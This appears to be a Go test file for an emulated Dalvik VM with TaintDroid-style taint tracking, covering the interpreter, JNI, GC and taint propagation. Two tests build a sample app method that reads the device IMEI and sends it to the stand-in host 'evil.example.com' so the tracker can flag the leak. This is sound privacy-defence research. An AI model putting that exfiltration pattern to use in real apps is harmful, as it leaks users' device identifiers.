@@ -1,0 +1,645 @@
+package dvm
+
+import (
+	"math"
+	"strings"
+	"testing"
+
+	"repro/internal/arm"
+	"repro/internal/dex"
+	"repro/internal/kernel"
+	"repro/internal/libc"
+	"repro/internal/mem"
+	"repro/internal/taint"
+)
+
+// newVM builds the full stack: memory, kernel, libc, CPU, and a VM with
+// TaintDroid propagation enabled.
+func newVM(t *testing.T) *VM {
+	t.Helper()
+	m := mem.New()
+	k := kernel.New(m)
+	task := k.NewTask("app_process")
+	c := arm.New(m)
+	c.R[arm.SP] = kernel.NativeStackTop
+	c.SVC = func(c *arm.CPU, num uint32) error { return k.Syscall(task, c, num) }
+	lc, err := libc.New(m, k, task)
+	if err != nil {
+		t.Fatal(err)
+	}
+	lc.Install(c)
+	vm := New(m, c, k, task, lc)
+	vm.TaintJava = true
+	return vm
+}
+
+func invoke(t *testing.T, vm *VM, class, method string, args ...uint32) (uint64, taint.Tag) {
+	t.Helper()
+	ret, rt, thrown, err := vm.InvokeByName(class, method, args, nil)
+	if err != nil {
+		t.Fatalf("%s.%s: %v", class, method, err)
+	}
+	if thrown != nil {
+		msg := ""
+		if len(thrown.Fields) > 0 {
+			if o, ok := vm.objects[thrown.Fields[0]]; ok {
+				msg = o.Str
+			}
+		}
+		t.Fatalf("%s.%s threw %s: %s", class, method, thrown.Class.Name, msg)
+	}
+	return ret, rt
+}
+
+func TestInterpreterFactorial(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/Math;")
+	cb.Method("fact", "II", dex.AccStatic, 3).
+		Const(0, 1). // acc
+		Label("loop").
+		IfZ(3, dex.Le, "done"). // arg in v3
+		Bin(dex.Mul, 0, 0, 3).
+		BinLit(dex.Sub, 3, 3, 1).
+		Goto("loop").
+		Label("done").
+		Return(0).
+		Done()
+	vm.RegisterClass(cb.Build())
+
+	ret, _ := invoke(t, vm, "Lcom/test/Math;", "fact", 6)
+	if ret != 720 {
+		t.Errorf("fact(6) = %d, want 720", ret)
+	}
+}
+
+func TestInterpreterRecursion(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/Rec;")
+	// fib(n) = n < 2 ? n : fib(n-1)+fib(n-2)
+	cb.Method("fib", "II", dex.AccStatic, 3).
+		Const(0, 2).
+		If(3, dex.Lt, 0, "base").
+		BinLit(dex.Sub, 1, 3, 1).
+		InvokeStatic("Lcom/test/Rec;", "fib", "II", 1).
+		MoveResult(1).
+		BinLit(dex.Sub, 2, 3, 2).
+		InvokeStatic("Lcom/test/Rec;", "fib", "II", 2).
+		MoveResult(2).
+		Bin(dex.Add, 0, 1, 2).
+		Return(0).
+		Label("base").
+		Return(3).
+		Done()
+	vm.RegisterClass(cb.Build())
+	ret, _ := invoke(t, vm, "Lcom/test/Rec;", "fib", 10)
+	if ret != 55 {
+		t.Errorf("fib(10) = %d, want 55", ret)
+	}
+}
+
+func TestTaintPropagationThroughArithmetic(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/T;")
+	// Taint flows: tainted arg + constant -> result tainted.
+	cb.Method("mix", "II", dex.AccStatic, 2).
+		Const(0, 100).
+		Bin(dex.Add, 1, 0, 2). // v1 = 100 + arg
+		Return(1).
+		Done()
+	vm.RegisterClass(cb.Build())
+	ret, rt, _, err := vm.InvokeByName("Lcom/test/T;", "mix", []uint32{5}, []taint.Tag{taint.IMEI})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ret != 105 {
+		t.Errorf("mix = %d", ret)
+	}
+	if rt != taint.IMEI {
+		t.Errorf("taint = %v, want IMEI", rt)
+	}
+}
+
+func TestTaintClearedByConst(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/T2;")
+	cb.Method("wipe", "II", dex.AccStatic, 0).
+		Const(0, 7). // overwrites the tainted arg register
+		Return(0).
+		Done()
+	vm.RegisterClass(cb.Build())
+	// NumRegs == InsSize == 1, so v0 is the argument register.
+	_, rt, _, err := vm.InvokeByName("Lcom/test/T2;", "wipe", []uint32{5}, []taint.Tag{taint.IMEI})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rt != 0 {
+		t.Errorf("taint = %v, want clear after const overwrite", rt)
+	}
+}
+
+func TestSourceToJavaSink(t *testing.T) {
+	vm := newVM(t)
+	var leaks []JavaLeak
+	vm.JavaLeakFn = func(l JavaLeak) { leaks = append(leaks, l) }
+
+	cb := dex.NewClass("Lcom/test/Leaky;")
+	cb.Method("leak", "V", dex.AccStatic, 2).
+		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
+		MoveResult(0).
+		ConstString(1, "evil.example.com").
+		InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
+		ReturnVoid().
+		Done()
+	vm.RegisterClass(cb.Build())
+	invoke(t, vm, "Lcom/test/Leaky;", "leak")
+
+	if len(leaks) != 1 {
+		t.Fatalf("got %d leaks, want 1", len(leaks))
+	}
+	if !leaks[0].Tag.Has(taint.IMEI) {
+		t.Errorf("leak tag = %v, want IMEI", leaks[0].Tag)
+	}
+	if leaks[0].Data != DeviceIMEI {
+		t.Errorf("leak data = %q", leaks[0].Data)
+	}
+	sent := vm.Kern.Net.SentTo("evil.example.com")
+	if len(sent) != 1 || string(sent[0]) != DeviceIMEI {
+		t.Errorf("network log = %q", sent)
+	}
+}
+
+func TestNoLeakWhenTaintingDisabled(t *testing.T) {
+	vm := newVM(t)
+	vm.TaintJava = false
+	var leaks []JavaLeak
+	vm.JavaLeakFn = func(l JavaLeak) { leaks = append(leaks, l) }
+	cb := dex.NewClass("Lcom/test/Leaky2;")
+	cb.Method("leak", "V", dex.AccStatic, 2).
+		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
+		MoveResult(0).
+		ConstString(1, "evil.example.com").
+		InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
+		ReturnVoid().
+		Done()
+	vm.RegisterClass(cb.Build())
+	invoke(t, vm, "Lcom/test/Leaky2;", "leak")
+	if len(leaks) != 0 {
+		t.Errorf("vanilla mode reported %d leaks", len(leaks))
+	}
+}
+
+func TestExceptionCatch(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/E;")
+	cb.Method("divSafe", "III", dex.AccStatic, 2).
+		Label("try_start").
+		Bin(dex.Div, 0, 2, 3).
+		Label("try_end").
+		Return(0).
+		Label("handler").
+		MoveException(1).
+		Const(0, -1).
+		Return(0).
+		Try("try_start", "try_end", "handler", "Ljava/lang/ArithmeticException;").
+		Done()
+	vm.RegisterClass(cb.Build())
+
+	ret, _ := invoke(t, vm, "Lcom/test/E;", "divSafe", 10, 2)
+	if int32(ret) != 5 {
+		t.Errorf("divSafe(10,2) = %d", int32(ret))
+	}
+	ret, _ = invoke(t, vm, "Lcom/test/E;", "divSafe", 10, 0)
+	if int32(ret) != -1 {
+		t.Errorf("divSafe(10,0) = %d, want -1 (caught)", int32(ret))
+	}
+}
+
+func TestUncaughtExceptionPropagates(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/E2;")
+	cb.Method("boom", "II", dex.AccStatic, 1).
+		Const(0, 0).
+		Bin(dex.Div, 0, 1, 0).
+		Return(0).
+		Done()
+	vm.RegisterClass(cb.Build())
+	_, _, thrown, err := vm.InvokeByName("Lcom/test/E2;", "boom", []uint32{5}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if thrown == nil {
+		t.Fatal("expected thrown exception")
+	}
+	if thrown.Class.Name != "Ljava/lang/ArithmeticException;" {
+		t.Errorf("thrown class = %s", thrown.Class.Name)
+	}
+}
+
+func TestFieldsAndObjects(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/Box;")
+	cb.InstanceField("value", false)
+	cb.StaticField("counter", false)
+	cb.Method("roundTrip", "II", dex.AccStatic, 2).
+		NewInstance(0, "Lcom/test/Box;").
+		Iput(2, 0, "Lcom/test/Box;", "value").
+		Iget(1, 0, "Lcom/test/Box;", "value").
+		Sput(1, "Lcom/test/Box;", "counter").
+		Sget(1, "Lcom/test/Box;", "counter").
+		Return(1).
+		Done()
+	vm.RegisterClass(cb.Build())
+	ret, rt, _, err := vm.InvokeByName("Lcom/test/Box;", "roundTrip", []uint32{42}, []taint.Tag{taint.SMS})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ret != 42 {
+		t.Errorf("roundTrip = %d", ret)
+	}
+	if rt != taint.SMS {
+		t.Errorf("field taint lost: %v", rt)
+	}
+}
+
+func TestArrayTaintSemantics(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/Arr;")
+	// Store tainted value at [0], read back [1]: TaintDroid's single-tag-per-
+	// array semantics taint the whole array.
+	cb.Method("spread", "II", dex.AccStatic, 3).
+		Const(0, 8).
+		NewArray(1, 0, "I").
+		Const(0, 0).
+		Aput(3, 1, 0). // arr[0] = tainted arg
+		Const(0, 1).
+		Aget(2, 1, 0). // read arr[1] (never written)
+		Return(2).
+		Done()
+	vm.RegisterClass(cb.Build())
+	_, rt, _, err := vm.InvokeByName("Lcom/test/Arr;", "spread", []uint32{9}, []taint.Tag{taint.Contacts})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rt != taint.Contacts {
+		t.Errorf("array taint = %v, want Contacts (whole-array tag)", rt)
+	}
+}
+
+func TestWideArithmetic(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/W;")
+	cb.Method("dmul", "V", dex.AccStatic, 6).
+		ConstWide(0, int64(doubleBits(2.5))).
+		ConstWide(2, int64(doubleBits(4.0))).
+		BinDouble(dex.Mul, 4, 0, 2).
+		Sput(4, "Lcom/test/W;", "lo").
+		Move(4, 5).
+		Sput(4, "Lcom/test/W;", "hi").
+		ReturnVoid().
+		Done()
+	cb.StaticField("lo", false)
+	cb.StaticField("hi", false)
+	cls := cb.Build()
+	vm.RegisterClass(cls)
+	invoke(t, vm, "Lcom/test/W;", "dmul")
+	got := uint64(cls.StaticData[0]) | uint64(cls.StaticData[1])<<32
+	if got != doubleBits(10.0) {
+		t.Errorf("2.5*4.0 bits = %#x, want bits of 10.0", got)
+	}
+}
+
+func doubleBits(f float64) uint64 { return math.Float64bits(f) }
+
+// --- JNI round trips --------------------------------------------------------
+
+const testNativeLib = `
+; int add(JNIEnv*, jclass, int a, int b)
+Java_add:
+	ADD R0, R2, R3
+	BX LR
+
+; jstring echo(JNIEnv* env, jclass, jstring s): GetStringUTFChars + NewStringUTF
+Java_echo:
+	PUSH {R4, R5, R6, LR}
+	MOV R4, R0
+	MOV R5, R2
+	MOV R1, R5
+	MOV R2, #0
+	BL GetStringUTFChars
+	MOV R6, R0
+	MOV R0, R4
+	MOV R1, R6
+	BL NewStringUTF
+	POP {R4, R5, R6, PC}
+
+; void callback(JNIEnv* env, jclass): calls App.ping() through JNI
+Java_callback:
+	PUSH {R4, R5, R6, LR}
+	MOV R4, R0
+	LDR R1, =str_cls
+	BL FindClass
+	MOV R5, R0
+	MOV R0, R4
+	MOV R1, R5
+	LDR R2, =str_ping
+	LDR R3, =str_sig
+	BL GetStaticMethodID
+	MOV R6, R0
+	MOV R0, R4
+	MOV R1, R5
+	MOV R2, R6
+	BL CallStaticVoidMethod
+	POP {R4, R5, R6, PC}
+
+; void boom(JNIEnv* env, jclass): ThrowNew(env, Exception, "native oops")
+Java_boom:
+	PUSH {R4, LR}
+	MOV R4, R0
+	LDR R1, =str_exc
+	BL FindClass
+	MOV R1, R0
+	MOV R0, R4
+	LDR R2, =str_msg
+	BL ThrowNew
+	POP {R4, PC}
+
+str_cls:  .asciz "com/test/App"
+str_ping: .asciz "ping"
+str_sig:  .asciz "()V"
+str_exc:  .asciz "java/lang/Exception"
+str_msg:  .asciz "native oops"
+`
+
+func setupJNIApp(t *testing.T, vm *VM) {
+	t.Helper()
+	prog, err := vm.LoadNativeLib("libtest.so", testNativeLib)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cb := dex.NewClass("Lcom/test/App;")
+	cb.StaticField("pinged", false)
+	cb.NativeMethod("add", "III", dex.AccStatic, 0)
+	cb.NativeMethod("echo", "LL", dex.AccStatic, 0)
+	cb.NativeMethod("callback", "V", dex.AccStatic, 0)
+	cb.NativeMethod("boom", "V", dex.AccStatic, 0)
+	cb.Method("ping", "V", dex.AccStatic, 1).
+		Const(0, 1).
+		Sput(0, "Lcom/test/App;", "pinged").
+		ReturnVoid().
+		Done()
+	cb.Method("tryBoom", "I", dex.AccStatic, 2).
+		Label("try_start").
+		InvokeStatic("Lcom/test/App;", "boom", "V").
+		Label("try_end").
+		Const(0, 0).
+		Return(0).
+		Label("handler").
+		MoveException(1).
+		Const(0, 99).
+		Return(0).
+		Try("try_start", "try_end", "handler", "").
+		Done()
+	cls := cb.Build()
+	vm.RegisterClass(cls)
+	for _, m := range []string{"add", "echo", "callback", "boom"} {
+		if err := vm.BindNative("Lcom/test/App;", m, prog, "Java_"+m); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func TestJNIPrimitiveCall(t *testing.T) {
+	vm := newVM(t)
+	setupJNIApp(t, vm)
+	ret, rt, _, err := vm.InvokeByName("Lcom/test/App;", "add", []uint32{30, 12}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if ret != 42 {
+		t.Errorf("native add = %d", ret)
+	}
+	if rt != 0 {
+		t.Errorf("untainted call returned taint %v", rt)
+	}
+}
+
+func TestJNITaintDroidReturnPolicy(t *testing.T) {
+	vm := newVM(t)
+	setupJNIApp(t, vm)
+	// TaintDroid policy: return value tainted iff any parameter tainted.
+	_, rt, _, err := vm.InvokeByName("Lcom/test/App;", "add",
+		[]uint32{30, 12}, []taint.Tag{taint.IMEI, 0})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rt != taint.IMEI {
+		t.Errorf("JNI return taint = %v, want IMEI (TaintDroid policy)", rt)
+	}
+}
+
+func TestJNIStringRoundTrip(t *testing.T) {
+	vm := newVM(t)
+	setupJNIApp(t, vm)
+	s := vm.NewString("hello jni")
+	ret, _, _, err := vm.InvokeByName("Lcom/test/App;", "echo", []uint32{s.Addr}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, ok := vm.objects[uint32(ret)]
+	if !ok || !out.IsString {
+		t.Fatalf("echo returned non-string %#x", ret)
+	}
+	if out.Str != "hello jni" {
+		t.Errorf("echo = %q", out.Str)
+	}
+	if out.Addr == s.Addr {
+		t.Error("echo should have produced a fresh string object")
+	}
+}
+
+func TestJNICallbackIntoJava(t *testing.T) {
+	vm := newVM(t)
+	setupJNIApp(t, vm)
+	invoke(t, vm, "Lcom/test/App;", "callback")
+	cls, _ := vm.Class("Lcom/test/App;")
+	if cls.StaticData[0] != 1 {
+		t.Error("native callback did not run App.ping")
+	}
+}
+
+func TestJNIThrowNewCaughtInJava(t *testing.T) {
+	vm := newVM(t)
+	setupJNIApp(t, vm)
+	ret, _ := invoke(t, vm, "Lcom/test/App;", "tryBoom")
+	if ret != 99 {
+		t.Errorf("tryBoom = %d, want 99 (handler ran)", ret)
+	}
+}
+
+func TestJNIBranchEventsForMultilevelChain(t *testing.T) {
+	vm := newVM(t)
+	var events []string
+	vm.CPU.BranchFn = func(_ *arm.CPU, from, to uint32) {
+		if name, ok := vm.InternalName(to); ok {
+			events = append(events, name)
+		}
+	}
+	setupJNIApp(t, vm)
+	invoke(t, vm, "Lcom/test/App;", "callback")
+	joined := strings.Join(events, ",")
+	// The Fig. 5 chain: native -> CallStaticVoidMethod -> dvmCallMethodV ->
+	// dvmInterpret must appear in order.
+	for _, want := range []string{"FindClass", "GetStaticMethodID", "CallStaticVoidMethod", "dvmCallMethodV", "dvmInterpret"} {
+		if !strings.Contains(joined, want) {
+			t.Errorf("branch events missing %s: %s", want, joined)
+		}
+	}
+	idxCall := strings.Index(joined, "CallStaticVoidMethod")
+	idxDvm := strings.Index(joined, "dvmCallMethodV")
+	idxInterp := strings.Index(joined, "dvmInterpret")
+	if !(idxCall < idxDvm && idxDvm < idxInterp) {
+		t.Errorf("chain out of order: %s", joined)
+	}
+}
+
+func TestInternalHooksFire(t *testing.T) {
+	vm := newVM(t)
+	setupJNIApp(t, vm)
+	var seen []string
+	vm.HookInternal("dvmCallJNIMethod", InternalHook{
+		Before: func(ctx *CallCtx) {
+			seen = append(seen, "entry:"+ctx.Method.Name)
+		},
+		After: func(ctx *CallCtx) {
+			seen = append(seen, "exit:"+ctx.Method.Name)
+		},
+	})
+	invoke(t, vm, "Lcom/test/App;", "add", 1, 2)
+	if len(seen) != 2 || seen[0] != "entry:add" || seen[1] != "exit:add" {
+		t.Errorf("hook sequence = %v", seen)
+	}
+}
+
+func TestGCMovesObjectsAndIRTSurvives(t *testing.T) {
+	vm := newVM(t)
+	// Allocate garbage, then a survivor referenced only through the IRT.
+	for i := 0; i < 10; i++ {
+		vm.NewString("garbage")
+	}
+	surv := vm.NewString("survivor")
+	ref := vm.AddGlobalRef(surv)
+	oldAddr := surv.Addr
+
+	moved := vm.RunGC()
+	if moved == 0 {
+		t.Fatal("GC moved nothing; expected compaction")
+	}
+	if surv.Addr == oldAddr {
+		t.Error("survivor should have moved")
+	}
+	got := vm.DecodeRef(ref)
+	if got != surv {
+		t.Error("indirect ref broken after GC")
+	}
+	if _, ok := vm.ObjectAt(oldAddr); ok {
+		t.Error("old address should no longer resolve")
+	}
+	if vm.HeapObjects() != 1 {
+		t.Errorf("heap objects = %d, want 1 (garbage collected)", vm.HeapObjects())
+	}
+}
+
+func TestGCUpdatesFrameSlots(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/G;")
+	// gc() builtin trigger inside a method holding a live string register.
+	gcCls := dex.NewClass("Ljava/lang/Runtime;").Build()
+	addBuiltin(vm, gcCls, "gc", "V", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
+		vm.RunGC()
+		return 0, 0, nil
+	})
+	vm.RegisterClass(gcCls)
+
+	cb.Method("hold", "L", dex.AccStatic, 2).
+		ConstString(0, "keepme").
+		InvokeStatic("Ljava/lang/Runtime;", "gc", "V").
+		Return(0).
+		Done()
+	vm.RegisterClass(cb.Build())
+	// Fill heap with garbage first so compaction actually moves things.
+	for i := 0; i < 20; i++ {
+		vm.NewString("junk")
+	}
+	ret, _ := invoke(t, vm, "Lcom/test/G;", "hold")
+	o, ok := vm.objects[uint32(ret)]
+	if !ok || o.Str != "keepme" {
+		t.Fatalf("frame slot not updated across GC: %#x -> %+v", ret, o)
+	}
+}
+
+func TestGCMoveCallback(t *testing.T) {
+	vm := newVM(t)
+	var moves int
+	vm.OnGCMove = func(old, new uint32, o *Object) { moves++ }
+	for i := 0; i < 5; i++ {
+		vm.NewString("x")
+	}
+	keep := vm.NewString("keep")
+	vm.AddGlobalRef(keep)
+	vm.RunGC()
+	if moves == 0 {
+		t.Error("OnGCMove never fired")
+	}
+}
+
+func TestVirtualDispatch(t *testing.T) {
+	vm := newVM(t)
+	base := dex.NewClass("Lcom/test/Base;")
+	base.Method("answer", "I", 0, 1).
+		Const(0, 1).
+		Return(0).
+		Done()
+	vm.RegisterClass(base.Build())
+
+	sub := dex.NewClass("Lcom/test/Sub;").Super("Lcom/test/Base;")
+	sub.Method("answer", "I", 0, 1).
+		Const(0, 2).
+		Return(0).
+		Done()
+	vm.RegisterClass(sub.Build())
+
+	drv := dex.NewClass("Lcom/test/Drv;")
+	drv.Method("run", "I", dex.AccStatic, 2).
+		NewInstance(0, "Lcom/test/Sub;").
+		InvokeVirtual("Lcom/test/Base;", "answer", "I", 0).
+		MoveResult(1).
+		Return(1).
+		Done()
+	vm.RegisterClass(drv.Build())
+	ret, _ := invoke(t, vm, "Lcom/test/Drv;", "run")
+	if ret != 2 {
+		t.Errorf("virtual dispatch = %d, want 2 (subclass override)", ret)
+	}
+}
+
+func TestStringConcatTaint(t *testing.T) {
+	vm := newVM(t)
+	cb := dex.NewClass("Lcom/test/SC;")
+	cb.Method("mk", "L", dex.AccStatic, 2).
+		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
+		MoveResult(0).
+		ConstString(1, "imei=").
+		InvokeVirtual("Ljava/lang/String;", "concat", "LL", 1, 0).
+		MoveResult(0).
+		Return(0).
+		Done()
+	vm.RegisterClass(cb.Build())
+	ret, rt := invoke(t, vm, "Lcom/test/SC;", "mk")
+	o := vm.objects[uint32(ret)]
+	if o == nil || o.Str != "imei="+DeviceIMEI {
+		t.Fatalf("concat result wrong: %+v", o)
+	}
+	if !rt.Has(taint.IMEI) {
+		t.Errorf("concat taint = %v", rt)
+	}
+}
